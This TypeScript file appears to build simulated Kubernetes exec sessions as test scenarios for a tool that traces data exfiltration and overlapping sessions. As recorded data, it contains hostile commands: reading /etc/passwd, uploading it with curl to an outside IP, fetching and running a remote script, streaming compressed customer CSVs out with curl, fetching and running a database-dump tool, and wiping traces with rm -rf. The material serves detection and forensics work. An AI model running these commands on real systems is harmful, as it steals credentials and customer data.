/** The third story, *trace*: data leave a pod; then two people are in it at once. */
import type { EpochMs } from '../../src/model/units.js';
import { containerOf, serviceEndpoint } from './cluster.js';
import { ExecSession } from './exec-session.js';
import { bob, carol, dave } from './people.js';
import type { Recorder } from './recorder.js';

const minuteMs = 60_000;
const hourMs = 60 * minuteMs;

/** The trace: what one user fetched and ran in a pod with sensitive data, and where the data went. */
export function exfiltration(recorder: Recorder, endMs: EpochMs): void {
  const container = containerOf(recorder.cluster, 'sensitive', 'customer-records', 'app');
  const atMs = endMs - 5.6 * hourMs;
  const session = new ExecSession(recorder, {
    user: dave,
    container,
    command: 'sh',
    atMs,
    endMs: atMs + 17 * minuteMs,
    terminal: 0,
  });
  session.wait(6).run('id');
  session.wait(4).run('ls -la /var/www/html');
  const passwd = session.wait(12).redirect('cat /etc/passwd', '/tmp/passwd');
  session.file(passwd, '/etc/passwd', 'r');
  const upload = session.wait(9).run('curl -sS --data-binary @/tmp/passwd https://198.51.100.23/in');
  session.file(upload, '/tmp/passwd', 'r');
  session.connect(upload, { ip: '198.51.100.23', port: 443 });
  const fetch = session.wait(31).run('curl -fsSL -o /tmp/.cache/sync.sh http://198.51.100.23/sync.sh');
  session.connect(fetch, { ip: '198.51.100.23', port: 80 });
  session.file(fetch, '/tmp/.cache/sync.sh', 'w');
  session.wait(5).run('chmod +x /tmp/.cache/sync.sh');
  const script = session.wait(3).run('bash /tmp/.cache/sync.sh', session.root, { exe: '/bin/bash' });
  session.file(script, '/tmp/.cache/sync.sh', 'r');
  for (let round = 1; round <= 120; round++) {
    const part = `/var/www/html/exports/customers-${String(round).padStart(3, '0')}.csv`;
    const gzip = session.wait(recorder.random.between(1.5, 4)).run(`gzip -c ${part}`, script);
    session.file(gzip, part, 'r');
    const send = session.run('curl -sS -T - https://[2001:db8:51:100::17]/in', script);
    session.connect(
      send,
      round % 3 === 0 ? { ip: '2001:db8:51:100::17', port: 443 } : { ip: '198.51.100.23', port: 443 },
    );
  }
  session.wait(6).run('rm -rf /tmp/.cache /tmp/passwd');
}

/** Two people in one container at once, with the same command, started within a moment: their processes cannot be told apart for certain. */
export function overlap(recorder: Recorder, endMs: EpochMs): void {
  const container = containerOf(recorder.cluster, 'sensitive', 'customer-records', 'app');
  const atMs = endMs - 2.25 * hourMs;
  const first = new ExecSession(recorder, {
    user: bob,
    container,
    command: 'bash',
    atMs,
    endMs: atMs + 12.2 * minuteMs,
    terminal: 0,
  });
  const second = new ExecSession(recorder, {
    user: carol,
    container,
    command: 'bash',
    atMs: atMs + 28,
    endMs: atMs + 12.4 * minuteMs,
    terminal: 1,
  });
  first.wait(5).run('ls -la /etc/customer-records');
  second.wait(7).run('ps aux');
  const read = first.wait(20).run('cat /etc/customer-records/app.ini');
  first.file(read, '/etc/customer-records/app.ini', 'r');
  const tail = second.wait(25).run('tail -n 200 /var/log/apache2/error.log');
  second.file(tail, '/var/log/apache2/error.log', 'r');
  const fetch = second.wait(90).run('wget -q http://203.0.113.200/tools/dbdump');
  second.connect(fetch, { ip: '203.0.113.200', port: 80 });
  second.file(fetch, '/var/www/html/dbdump', 'w');
  second.wait(8).run('chmod 755 dbdump');
  const dump = second.wait(3).run('./dbdump --all', second.root, { exe: '/var/www/html/dbdump', comm: 'dbdump' });
  second.connect(dump, serviceEndpoint(recorder.cluster, 'postgres.payments'));
  first.wait(160).run('grep -rn timeout /etc/customer-records');
  first.wait(75).run('apache2ctl -t', first.root, { exe: '/usr/sbin/apache2ctl' });
  second.wait(200).run('rm dbdump');
  first.wait(140).run('df -h');
}
